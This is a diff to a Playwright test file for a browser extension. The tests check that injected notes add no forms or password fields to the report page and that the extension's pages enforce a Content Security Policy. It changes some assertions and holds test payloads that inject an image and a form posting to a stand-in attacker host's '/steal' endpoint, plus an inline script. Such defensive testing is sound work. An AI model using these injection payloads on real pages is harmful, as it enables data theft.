@@ -163,6 +163,8 @@ test('poisoned notes leave the report page’s style alone, request nothing and 
   const report = await openReportPage(context, extensionId);
   await expect(report.getByLabel('Rendered report')).toContainText('Rust is easy');
   const look = await pageLook(report);
+  // The page's own forms (the Schedule URL's) stay; the notes add none, and no password field.
+  const ownForms = await report.locator('form').count();
   const notes = [
     'Watch this one.',
     '',
@@ -186,7 +188,8 @@ test('poisoned notes leave the report page’s style alone, request nothing and 
   await expect(preview.locator('img[src]')).toHaveCount(0);
   await expect(preview.locator('form, input, button, iframe, style, [style]')).toHaveCount(0);
   await expect(report.getByLabel('Password')).toHaveCount(0);
-  await expect(report.locator('input[type="password"], form')).toHaveCount(0);
+  await expect(report.locator('input[type="password"]')).toHaveCount(0);
+  await expect(report.locator('form')).toHaveCount(ownForms);
   expect(await pageLook(report)).toEqual(look);
   // Reloading renders the stored notes again: still nothing requested.
   await report.reload();
@@ -220,12 +223,12 @@ test('the popup, report page and side panel run under the extension-page CSP', a
       const style = document.createElement('style');
       style.textContent = 'body { background: rgb(255, 0, 0) !important }';
       document.head.append(style);
-      document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form action="${host}/steal"><input name="q"></form>`);
+      document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form data-test="evil" action="${host}/steal"><input name="q"></form>`);
       const script = document.createElement('script');
       script.textContent = 'window.__inlineRan = true';
       document.body.append(script);
       const fetched = await fetch('http://images.evil.test/plain-http').then(() => 'fetched', () => 'refused');
-      document.querySelector('form')?.requestSubmit();
+      document.querySelector<HTMLFormElement>('form[data-test="evil"]')?.requestSubmit();
       await new Promise((resolve) => setTimeout(resolve, 300));
       return { directives: [...new Set(directives)].sort(), inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetched };
     }, EVIL_HOST);
